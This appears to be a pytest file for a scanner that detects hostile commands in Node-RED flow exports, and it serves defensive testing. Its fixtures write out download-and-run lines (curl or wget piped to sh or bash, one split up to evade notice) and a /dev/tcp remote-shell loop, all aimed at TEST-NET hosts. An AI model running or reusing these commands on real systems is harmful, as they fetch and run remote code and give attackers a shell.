"""Node-RED flow exports: a ``function`` node's JavaScript, an ``exec`` node's command, and an
``exec`` node that appends the message a ``function`` node wired before it built (through nodes that
pass the message on). Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_errors


def flow(*nodes: dict[str, object]) -> str:
    return "[\n" + ",\n".join("  " + json.dumps(node) for node in nodes) + "\n]\n"


def test_a_command_assembled_in_a_function_and_run_by_an_exec_node_after_a_delay(tmp_path: Path) -> None:
    code = (
        "var parts = ['wg', 'et -qO- ', 'http://', [203, 0, 113, 77].join('.'), '/n/agent'];\n"
        "msg.payload = parts.join('') + ' | ba' + 'sh';\n"
        "return msg;"
    )
    text = flow(
        {"id": "a1", "type": "inject", "once": True, "wires": [["a2"]]},
        {"id": "a2", "type": "function", "name": "prep", "func": code, "outputs": 1, "wires": [["a3"]]},
        {"id": "a3", "type": "delay", "timeout": "2", "wires": [["a4"]]},
        {"id": "a4", "type": "exec", "command": "", "addpay": True, "wires": [[], [], []]},
    )
    errors = scan_errors(tmp_path, {"flows/garage.json": text})
    assert ("DOWNLOAD_AND_RUN", "flows/garage.json", 3) in errors


def test_an_exec_node_with_its_own_download_run_in_an_admin_api_export(tmp_path: Path) -> None:
    nodes = [
        {"id": "b1", "type": "inject", "once": True, "wires": [["b2"]]},
        {"id": "b2", "type": "exec", "command": "curl -s http://192.0.2.90/p.sh | sh", "addpay": "", "wires": [[]]},
    ]
    text = json.dumps({"rev": "1", "flows": nodes}, indent=1)
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in scan_errors(tmp_path, {"assets/deploy.json": text}))


def test_status_commands_and_a_function_that_only_formats_a_message_stay_quiet(tmp_path: Path) -> None:
    text = flow(
        {"id": "c1", "type": "inject", "repeat": "60", "wires": [["c2"]]},
        {"id": "c2", "type": "function", "func": "msg.payload = 'mosquitto';\nreturn msg;", "wires": [["c3"]]},
        {"id": "c3", "type": "exec", "command": "systemctl is-active", "addpay": "payload", "wires": [["c4"], [], []]},
        {"id": "c4", "type": "function", "func": "msg.payload = {up: msg.payload.trim() === 'active'};\nreturn msg;",
         "wires": [[]]},
    )  # fmt: skip
    assert not scan_errors(tmp_path, {"assets/health.json": text})


def test_a_template_filled_from_flow_settings_and_appended_by_an_exec_node(tmp_path: Path) -> None:
    text = flow(
        {"id": "t1", "type": "inject", "repeat": "300", "wires": [["t2"]]},
        {
            "id": "t2",
            "type": "change",
            "rules": [
                {"t": "set", "p": "srv", "pt": "global", "to": "203.0.113.61", "tot": "str"},
                {"t": "set", "p": "path", "pt": "msg", "to": "/s/boot.sh", "tot": "str"},
            ],
            "wires": [["t3"]],
        },
        {
            "id": "t3",
            "type": "template",
            "field": "payload",
            "syntax": "mustache",
            "template": '-c "curl -fsSL http://{{global.srv}}{{path}} | sh"',
            "wires": [["t4"]],
        },
        {"id": "t4", "type": "link out", "links": ["t5"], "wires": [["t5"]]},
        {"id": "t5", "type": "exec", "command": "sh", "addpay": "payload", "wires": [[], [], []]},
    )
    errors = scan_errors(tmp_path, {"flows/refresh.json": text})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


def test_a_template_holding_a_tcp_read_loop_is_a_remote_shell(tmp_path: Path) -> None:
    text = flow(
        {"id": "r1", "type": "inject", "once": True, "wires": [["r2"]]},
        {
            "id": "r2",
            "type": "change",
            "rules": [{"t": "set", "p": "ip", "pt": "flow", "to": "192.0.2.14", "tot": "str"}],
            "wires": [["r3"]],
        },
        {
            "id": "r3",
            "type": "template",
            "field": "payload",
            "template": "-c 'exec 3<>/dev/tcp/{{flow.ip}}/9100; while read -r c <&3; do sh -c \"$c\" >&3; done'",
            "wires": [["r4"]],
        },
        {"id": "r4", "type": "exec", "command": "bash", "addpay": "payload", "wires": [[], [], []]},
    )
    errors = scan_errors(tmp_path, {"flows/keepalive.json": text})
    assert any(rule == "REMOTE_SHELL" for rule, _, _ in errors)


def test_a_template_naming_a_local_file_for_an_exec_node_is_quiet(tmp_path: Path) -> None:
    text = flow(
        {"id": "q1", "type": "inject", "repeat": "60", "wires": [["q2"]]},
        {
            "id": "q2",
            "type": "change",
            "rules": [{"t": "set", "p": "dir", "pt": "flow", "to": "/var/log/homeassistant", "tot": "str"}],
            "wires": [["q3"]],
        },
        {"id": "q3", "type": "template", "field": "payload", "template": "-lh {{flow.dir}}", "wires": [["q4"]]},
        {"id": "q4", "type": "exec", "command": "ls", "addpay": "payload", "wires": [[], [], []]},
    )
    assert not scan_errors(tmp_path, {"flows/logs.json": text})
